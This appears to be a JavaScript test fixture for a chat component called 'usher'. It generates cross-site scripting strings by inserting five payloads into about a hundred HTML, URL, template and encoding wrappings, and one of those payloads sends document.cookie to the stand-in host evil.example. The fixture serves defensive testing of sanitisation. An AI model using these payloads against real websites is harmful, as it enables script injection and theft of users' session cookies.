// SPDX-License-Identifier: GPL-3.0-or-later
// Hostile strings, made by putting each payload into each wrapping. A hit calls alert() or sets usherWasHit.

const PAYLOADS = ['alert(1)', 'window.usherWasHit=1', 'parent.usherWasHit=1', 'top.usherWasHit=1', 'fetch("//evil.example/"+document.cookie)']
const WRAPS = [
  '<script>X</script>', '<SCRIPT>X</SCRIPT>', '<script >X</script >', '<script/x>X</script>', '"><script>X</script>', "'><script>X</script>", '</textarea><script>X</script>',
  '</title><script>X</script>', '</style><script>X</script>', '--><script>X</script>', ']]><script>X</script>', '<scr<script>ipt>X</scr</script>ipt>', '<img src=x onerror=X>',
  '<img src=x onerror="X">', '<img/src/onerror=X>', '<IMG SRC=javascript:X>', '<img src="x` `<script>X</script>"` `>', '<img srcset=x onerror=X>', '<svg onload=X>', '<svg/onload=X>',
  '<svg><script>X</script></svg>', '<svg><animate onbegin=X attributeName=x dur=1s>', '<svg><set onbegin=X>', '<svg><a xlink:href="javascript:X"><text>x</text></a></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x onload=X>#x">', '<body onload=X>', '<iframe src="javascript:X">', '<iframe srcdoc="<script>X</script>">', '<iframe onload=X>', '<object data="javascript:X">',
  '<embed src="javascript:X">', '<a href="javascript:X">a</a>', '<a href="JaVaScRiPt:X">a</a>', '<a href=" javascript:X">a</a>', '<a href="java\tscript:X">a</a>', '<a href="data:text/html,<script>X</script>">a</a>',
  '<form action="javascript:X"><button>a</button></form>', '<button formaction="javascript:X">a</button>', '<input autofocus onfocus=X>', '<select autofocus onfocus=X>', '<textarea autofocus onfocus=X>',
  '<video src=x onerror=X>', '<video><source onerror=X>', '<audio src=x onerror=X>', '<details open ontoggle=X>', '<marquee onstart=X>', '<meter onmouseover=X>', '<style>@import "javascript:X"</style>',
  '<style onload=X></style>', '<link rel=stylesheet href="javascript:X">', '<link rel=import href="data:text/html,<script>X</script>">', '<meta http-equiv=refresh content="0;url=javascript:X">', '<base href="javascript:X//">',
  '<math><mtext><script>X</script></mtext></math>', '<math href="javascript:X">x</math>', '<template><script>X</script></template>', '<noscript><p title="</noscript><img src=x onerror=X>">', '<x onclick=X tabindex=1>',
  '<isindex type=image src=1 onerror=X>', '<table background="javascript:X">', '<div style="background:url(javascript:X)">', '<div style="width:expression(X)">', '<xml onreadystatechange=X>', '<keygen autofocus onfocus=X>',
  'javascript:X', 'javascript://%0aX', 'data:text/html;base64,PHNjcmlwdD5YPC9zY3JpcHQ+X', 'vbscript:X', '{{constructor.constructor("X")()}}', '${X}', '#{X}', '<%= X %>', '{{X}}', '[[X]]', '`${X}`', "';X//", '";X//', '\\";X//',
  '</script><script>X</script>', '%3Cscript%3EX%3C/script%3E', '&lt;script&gt;X&lt;/script&gt;', '&#60;script&#62;X&#60;/script&#62;', '\\u003cscript\\u003eX\\u003c/script\\u003e', '＜script＞X＜/script＞',
  '<script\u2028>X</script>', '<img src=x onerror\u0000=X>'.replace('\u0000', '\uFFFD'), '<![CDATA[<script>X</script>]]>', '<?xml-stylesheet href="javascript:X"?>', '<!--<img src="--><img src=x onerror=X//">',
  'http://a.example/"onmouseover="X', "https://a.example/'onclick='X", 'https://a.example/<script>X</script>', 'http://a.example/?x=javascript:X', '[a](javascript:X)', '![a](x"onerror="X)', '<a href=https://x.example onclick=X>https://x.example</a>',
  '<p>X', '<b>X</b>', '<span foreground="red" size="9999999">X</span>', '<dialog open onclose=X>', '<slot onslotchange=X>', '<usher-chat onclick=X>',
]

/** @returns {string[]} */
export function strings () {
  return WRAPS.flatMap((wrap) => PAYLOADS.map((payload) => wrap.replaceAll('X', payload)))
}
